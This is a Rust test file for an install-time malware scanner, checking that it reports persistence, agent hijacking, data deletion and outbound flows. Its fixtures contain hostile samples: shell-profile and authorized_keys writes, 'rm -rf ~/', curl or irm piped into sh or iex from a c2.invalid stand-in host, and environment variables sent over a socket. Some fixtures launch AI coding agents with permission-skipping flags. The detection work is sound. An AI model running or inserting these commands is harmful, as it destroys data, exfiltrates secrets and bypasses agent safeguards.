//! Abilities of which each place is told: who cleans up has to know all files.

use weir_model::contents::{Capability, CapabilityKind, SourceKind, Surface};

use super::{installed, run};
use crate::Facts;

const HEAD: &str = "const fs = require('fs'), os = require('os'), cp = require('child_process');\n";

/// An ability that install runs.
fn ability(facts: &Facts, kind: CapabilityKind) -> &Capability {
    let is_it = |one: &&Capability| one.kind == kind && one.surface == Surface::Install;
    facts.capabilities.iter().find(is_it).expect("it is able")
}

/// What exactly, of all places.
fn details(facts: &Facts, kind: CapabilityKind) -> Vec<String> {
    ability(facts, kind).each().map(|one| one.detail).collect()
}

fn code(lines: &str) -> Facts {
    installed(&[("index.js", &format!("{HEAD}{lines}"))])
}

#[test]
fn one_write_does_not_hide_the_next() {
    let facts = code(
        "fs.appendFileSync(os.homedir() + '/.bashrc', 'x');
        fs.appendFileSync(os.homedir() + '/.zshrc', 'x');
        fs.writeFileSync('.git/hooks/pre-push', 'x');
        fs.appendFileSync(os.homedir() + '/.ssh/authorized_keys', 'x');
        for (const agent of ['.claude/settings.json', '.cursor/mcp.json'])
            fs.writeFileSync(os.homedir() + '/' + agent, '{}');",
    );
    let told = details(&facts, CapabilityKind::Persists).join("; ");
    for name in ["/.bashrc", "/.zshrc", "hooks/pre-push", "authorized_keys"] {
        assert_eq!(told.matches(name).count(), 1, "{name}: {told}");
    }
    let told = details(&facts, CapabilityKind::DrivesAgents).join("; ");
    for name in ["settings.json", "mcp.json"] {
        assert_eq!(told.matches(name).count(), 1, "{name}: {told}");
    }
}

#[test]
fn what_a_loop_starts_is_told_one_by_one() {
    let facts = code(
        "const agents = { claude: ['--dangerously-skip-permissions', '-p', 'look'], gemini: ['--yolo', '-p', 'look'] };
        for (const name of Object.keys(agents)) cp.spawnSync(name, agents[name]);
        cp.execSync('rm -rf ~/; rm -rf /home');",
    );
    let removed = details(&facts, CapabilityKind::RemovesHome);
    assert_eq!(removed.len(), 2, "{removed:?}");
}

#[test]
fn a_place_is_told_once_and_the_rest_is_counted() {
    let facts = code("fs.appendFileSync(os.homedir() + '/.bashrc', 'x');");
    let found = ability(&facts, CapabilityKind::Persists);
    assert!(
        found.also.is_empty() && found.also_left_out == 0,
        "{found:?}"
    );
    let lines: String = (0..20)
        .map(|index| {
            format!("fs.writeFileSync(os.homedir() + '/.config/autostart/{index}.desktop', 'x');\n")
        })
        .collect();
    let found = code(&lines);
    let found = ability(&found, CapabilityKind::Persists);
    assert_eq!(
        (found.also.len(), found.also_left_out),
        (15, 4),
        "{found:?}"
    );
    // Near miss: of what is not told place by place only the best one is kept.
    let facts = code("fetch('https://a.invalid/'); fetch('https://b.invalid/');");
    let found = ability(&facts, CapabilityKind::Network);
    assert!(
        found.also.is_empty() && found.also_left_out == 0,
        "{found:?}"
    );
}

#[test]
fn a_command_of_the_manifest_is_told_as_a_whole() {
    for (command, told, host) in [
        (
            "curl -s https://c2.invalid/a | sh",
            "curl -s https://c2.invalid/a | sh",
            "c2.invalid",
        ),
        (
            "irm c2.invalid/install.ps1|iex",
            "irm c2.invalid/install.ps1 | iex",
            "c2.invalid",
        ),
        (
            "wget -qO- files.c2.invalid/x|sh",
            "wget -qO- files.c2.invalid/x | sh",
            "files.c2.invalid",
        ),
    ] {
        let facts = run(&[], &[command], &[]);
        let flow = facts.flows.first().expect(command);
        assert_eq!(flow.sink_place.snippet, told);
        assert_eq!(flow.source, SourceKind::Fetched, "{command}");
        assert!(flow.source_detail.ends_with(host), "{flow:?}");
        assert!(facts.hosts.iter().any(|it| it.host == host), "{facts:?}");
    }
    // Near miss: a file is no host.
    let facts = run(&[], &["curl -T notes.txt c2.invalid/up"], &[]);
    let hosts: Vec<&str> = facts.hosts.iter().map(|it| it.host.as_str()).collect();
    assert_eq!(hosts, ["c2.invalid"]);
}

#[test]
fn a_socket_of_this_machine_is_no_way_out() {
    let sends = |opened: &str| {
        let facts = code(&format!(
            "const net = require('net');
            function send(at, done) {{ const socket = net.connect({opened}); socket.write(JSON.stringify(process.env)); }}
            module.exports = send; send(require('./native').address(), () => {{}});"
        ));
        facts.flows.iter().any(|flow| flow.sink.leaves())
    };
    assert!(!sends("at, done"));
    assert!(!sends("process.env.TOOL_SOCKET"));
    for opened in [
        "{ port: 4444, host: 'c2.invalid' }",
        "4444, 'c2.invalid'",
        "4444, at",
    ] {
        assert!(sends(opened), "{opened}");
    }
}

#[test]
fn evaluated_text_is_no_file_and_told_once() {
    let facts = code("for (const end of ['\\'', '\"', '`']) new Function('return ' + end)();");
    let told: Vec<&str> = facts.unread.iter().map(|it| it.why.as_str()).collect();
    assert!(facts.unread.len() <= 1, "{told:?}");
    assert!(facts.unread.iter().all(|it| !it.is_file()), "{told:?}");
}
